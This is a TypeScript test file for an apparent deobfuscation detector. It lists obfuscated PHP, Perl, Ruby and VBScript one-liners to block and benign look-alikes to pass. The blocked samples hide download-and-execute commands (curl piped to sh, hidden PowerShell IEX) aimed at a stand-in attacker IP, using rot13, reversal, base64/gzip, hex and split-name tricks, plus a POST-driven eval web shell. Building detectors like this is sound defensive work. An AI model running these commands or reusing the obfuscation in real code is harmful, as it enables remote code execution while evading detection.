import { deobfCases, enc } from "./_deobf_testing.ts";
import { deflateRawSync } from "node:zlib";

const PHP = "system('curl -s http://198.51.100.7/w|sh');";
const PL = "system('curl -s http://198.51.100.7/w|sh')";
const l1 = (u: Uint8Array) => btoa(Array.from(u, (c) => String.fromCharCode(c)).join(""));

deobfCases("php_perl_ruby", [
  {
    id: "decoded",
    block: [
      `php -r 'eval(str_rot13("${enc.rot13(PHP)}"));'`,
      `php -r 'eval(strrev("${enc.rev(PHP)}"));'`,
      `php -r 'eval(gzinflate(base64_decode("${l1(deflateRawSync(PHP))}")));'`,
      `php -r 'eval(hex2bin("${enc.hex(PHP)}"));'`,
      `php -r 'eval(gzinflate(base64_decode($_POST["c"])));'`,
      `perl -e 'eval pack("H*","${enc.hex(PL)}")'`,
      // Variable function assembled from pieces, and a decoder named through a string.
      `php -r '$f = "sys"."tem"; $f("curl -s http://198.51.100.7/w|sh");'`,
      `php -r '$d = "base"."64_decode"; eval($d("${enc.b64(PHP)}"));'`,
      // Escaped literal.
      `perl -e 'eval "${[...PL].map((c) => "\\x" + c.charCodeAt(0).toString(16)).join("")}"'`,
      // VBScript Chr chains.
      `CreateObject("WScript.Shell").Run ${
        [..."powershell -nop -w hidden -c IEX(iwr http://198.51.100.7/s.ps1)"].map((c) =>
          `Chr(${c.charCodeAt(0)})`
        ).join(" & ")
      }`,
      `perl -e 'eval(reverse("${enc.rev(PL)}"))'`,
      `ruby -e 'eval(["${enc.hex(PL)}"].pack("H*"))'`,
      `ruby -e 'eval("${enc.rev(PL).replaceAll('"', '\\"')}".reverse)'`,
    ],
    pass: [
      `php -r 'echo base64_encode(file_get_contents("logo.png"));'`,
      `php -r 'echo strrev("hello");'`,
      `perl -e 'print reverse("abc")'`,
      `ruby -e 'puts "hello".reverse'`,
      `php -r '$f = "strtoupper"; echo $f("hello");'`,
      `MsgBox "Total: " & Chr(36) & Amount & Chr(13) & Chr(10)`,
      `php -r '$data = base64_decode($argv[1]); file_put_contents("cert.pem", $data);'`,
    ],
  },
]);
